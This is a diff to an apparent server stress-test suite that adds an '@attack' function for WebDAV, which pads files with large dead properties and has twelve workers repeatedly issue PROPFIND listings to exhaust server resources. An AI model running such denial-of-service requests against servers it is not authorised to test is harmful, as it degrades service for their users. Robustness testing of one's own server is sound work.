@@ -14,7 +14,7 @@ import socket
 import struct
 import time
 from collections import Counter
-from collections.abc import Awaitable, Callable, Coroutine, Mapping
+from collections.abc import Awaitable, Callable, Coroutine, Iterator, Mapping
 from contextlib import suppress
 from typing import Any, Final
 
@@ -499,6 +499,25 @@ async def directories_over_webdav(target: Target, until: float) -> Counter[str]:
     """A directory with thousands of children, listed with all properties by twenty at once."""
     headers = {**basic(target), "Depth": "1"}
     return await many(20, until, lambda: ask(target, "PROPFIND", "/dav/personal/crowd/", headers))
+
+
+@attack
+async def large_properties_over_webdav(target: Target, until: float) -> Counter[str]:
+    """A directory whose files have nearly 32 KiB of properties each, listed over and over by twelve at once."""
+    path = f"/dav/personal/properties-{secrets.token_hex(4)}"
+    told = "".join(f'<a{number} xmlns="u">{"v" * 1400}</a{number}>' for number in range(20))
+    update = f'<D:propertyupdate xmlns:D="DAV:"><D:set><D:prop>{told}</D:prop></D:set></D:propertyupdate>'.encode()
+    for method, at, body in (("MKCOL", path, b""), ("PUT", f"{path}/0", b"x"), ("PROPPATCH", f"{path}/0", update)):
+        await ask(target, method, at, basic(target), body)
+
+    async def copied(numbers: Iterator[int]) -> None:
+        for number in numbers:
+            await ask(target, "COPY", f"{path}/0", {"Destination": f"{path}/{number}", **basic(target)})
+
+    numbers = iter(range(1, 40))
+    await asyncio.gather(*(copied(numbers) for _ in range(12)))
+    headers = {"Depth": "1", **basic(target)}
+    return await many(12, until, lambda: ask(target, "PROPFIND", path, headers))
 
 
 async def _post(target: Target, path: str, body: Mapping[str, Any], headers: Mapping[str, str] | None = None) -> str:
